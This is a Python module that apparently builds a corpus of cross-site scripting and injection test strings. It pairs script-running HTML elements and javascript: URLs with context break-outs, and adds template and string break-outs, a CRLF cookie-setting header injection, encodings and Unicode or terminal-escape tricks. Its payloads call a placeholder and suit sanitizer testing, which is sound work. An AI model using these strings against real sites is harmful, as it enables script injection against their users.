"""Texts that would run a script in a page that took them for markup, for a program, or for an address; made here.

Each way out of where a text may stand is put before each element that can run something, in several spellings.
"""

import html
from collections.abc import Iterator
from itertools import cycle
from urllib.parse import quote

RUN = "xss(1)"
ELEMENTS = (
    f"<script>{RUN}</script>",
    f"<img src=x onerror={RUN}>",
    f"<svg onload={RUN}>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<body onload={RUN}>",
    f"<input autofocus onfocus={RUN}>",
    f"<details open ontoggle={RUN}>",
    f"<video src=x onerror={RUN}></video>",
    f"<audio src=x onerror={RUN}></audio>",
    f"<marquee onstart={RUN}>x</marquee>",
    f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
    f"<iframe src=javascript:parent.{RUN}></iframe>",
    f"<object data=javascript:{RUN}></object>",
    f"<embed src=javascript:{RUN}>",
    f"<a href=javascript:{RUN}>open</a>",
    f"<form action=javascript:{RUN}><button>send</button></form>",
    f"<math><mtext><style><img title='</style><img src=x onerror={RUN}>'>",
    "<link rel=stylesheet href=//x.example/a.css>",
    "<base href=//x.example/>",
    "<meta http-equiv=refresh content='0;url=//x.example/'>",
    "<style>@import '//x.example/a.css';</style>",
    f"<template><script>{RUN}</script></template>",
    f"<noscript><p title='</noscript><img src=x onerror={RUN}>'>",
    f"<select autofocus onfocus={RUN}><option>a</select>",
)
WAYS_OUT = ("", '">', "'>", "`>", "</title>", "</script>", "</textarea>", "--><!-- -->", "]]>", "</style>")
PROGRAMS = (
    f"{{{{constructor.constructor('{RUN}')()}}}}",
    f"${{{RUN}}}",
    f"#{{{RUN}}}",
    f"';{RUN};//",
    f'";{RUN};//',
    f"\\';{RUN};//",
    f"</script><script>{RUN}//",
    f"`+{RUN}+`",
    f"\u2028{RUN}//",
    f"__proto__[{RUN}]",
    f"%0d%0aSet-Cookie:a=1%0d%0a%0d%0a<script>{RUN}</script>",
)
SCHEMES = ("javascript:", "JaVaScRiPt:", "java\tscript:", "\x01javascript:", "vbscript:", "data:text/html,")
MARKS = ("\u202e", "\u2066", "\u200b", "\ufeff", "\x1b[31m", "\x1b]8;;javascript:xss(1)\x07")


def hostile_strings() -> list[str]:
    """All of them, each once."""
    return list(dict.fromkeys(_made()))


def _made() -> Iterator[str]:
    for way in WAYS_OUT[:6]:
        yield from (f"{way}{element}" for element in ELEMENTS)
    yield from (f"{way}{element}" for way, element in zip(cycle(WAYS_OUT[6:]), ELEMENTS, strict=False))
    yield from PROGRAMS
    yield from (f"{scheme}{RUN}" for scheme in SCHEMES)
    yield from (f"[open]({scheme}{RUN})" for scheme in SCHEMES)  # a link, where text is taken for Markdown
    for element in ELEMENTS[:8]:
        yield element.upper().replace(RUN.upper(), RUN)
        yield html.escape(element)
        yield quote(element)
        yield "".join(f"\\u{ord(letter):04x}" for letter in element)[:240]
        yield element.replace("<", "\uff1c").replace(">", "\uff1e")  # wide letters, which some make narrow
        yield element.replace(" ", "/").replace("=", "\n=")
    yield from (f"{mark}{ELEMENTS[1]}" for mark in MARKS)
